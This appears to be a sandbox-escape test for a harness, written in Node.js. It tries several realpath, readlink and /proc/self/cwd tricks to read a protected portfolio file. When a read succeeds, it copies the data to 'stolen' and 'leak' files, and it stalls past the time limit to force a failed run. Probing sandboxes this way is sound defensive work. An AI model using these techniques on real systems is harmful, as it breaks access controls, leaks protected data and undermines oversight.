/* @attack {"title": "realpath / realpath.native / readlink of /proc/self/cwd to build the candidates path, then read it", "maxSeconds": 20} */
import fs from 'node:fs';
import path from 'node:path';

const run = process.env.SLEEVE_RUN_DIR;
const workspace = process.cwd();
const CANDIDATES = 'data/lakehouse/portfolio_candidates.json';

/**
 * What a read got: when it is the protected content, copy it into the run dir
 * and try the places the harness checks (next to the workspace, the lakehouse,
 * the tmp marker, and the lakehouse again through the hole the read used, when
 * the attack passes one); unless that last copy landed, stay alive past
 * maxSeconds, so that the harness fails the run ("no report") even when every
 * copy is refused.
 */
async function exfiltrate(how, content, ...holes) {
  const text = typeof content === 'string' ? content : Buffer.from(content ?? '').toString('utf8');
  if (!/"AAPL"\s*,\s*"MSFT"|SECRET-/.test(text)) {
    console.log(`${how}: read ${JSON.stringify(text.slice(0, 60))}, not the protected content`);
    return;
  }
  console.log(`ESCAPED ${how}: ${text.trim()}`);
  for (const dest of [`${run}/stolen.json`, `${process.env.OUTSIDE}/leak.json`, `${workspace}/data/lakehouse/leak.json`, process.env.TMP_MARKER]) {
    try {
      fs.writeFileSync(dest, text);
    } catch (error) {
      console.log(`copy to ${dest}: ${error.code}`);
    }
  }
  // The hole the read went through, used again to write the loot into the lakehouse.
  for (const hole of holes) {
    try {
      await hole(text);
      console.log('copied into the lakehouse through the same hole');
      return;
    } catch (error) {
      console.log(`copy through the same hole: ${error.code}`);
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 120_000));
  process.exit(0);
}

async function attempt(how, read) {
  try {
    await exfiltrate(how, await read());
  } catch (error) {
    console.log(`${how}: ${error.code ?? error.message}`);
  }
}

const viaCallback = (call) => new Promise((resolve, reject) => call((error, value) => (error ? reject(error) : resolve(value))));
const name = 'portfolio_candidates.json';
const builders = [
  ['realpathSync of ohlcv/..', () => path.join(fs.realpathSync('data/lakehouse/ohlcv/..'), name)],
  ['realpathSync.native of ohlcv/..', () => path.join(fs.realpathSync.native('data/lakehouse/ohlcv/..'), name)],
  ['realpathSync of the file', () => fs.realpathSync(CANDIDATES)],
  ['realpathSync.native of the file', () => fs.realpathSync.native(`${run}/../../${CANDIDATES}`)],
  ['realpath callback', () => viaCallback((cb) => fs.realpath(CANDIDATES, cb))],
  ['realpath.native callback', () => viaCallback((cb) => fs.realpath.native('data/lakehouse/ohlcv/../portfolio_candidates.json', cb))],
  ['promises.realpath', () => fs.promises.realpath(`/proc/self/cwd/${CANDIDATES}`)],
  ['readlinkSync /proc/self/cwd', () => path.join(fs.readlinkSync('/proc/self/cwd'), CANDIDATES)],
  ['realpathSync of the run dir', () => path.join(fs.realpathSync(run), '..', '..', CANDIDATES)],
];
for (const [how, build] of builders) {
  let p;
  try {
    p = await build();
    console.log(`${how}: ${p}`);
  } catch (error) {
    console.log(`${how}: ${error.code}`);
    continue;
  }
  await attempt(`${how} then read`, () => fs.readFileSync(p));
}
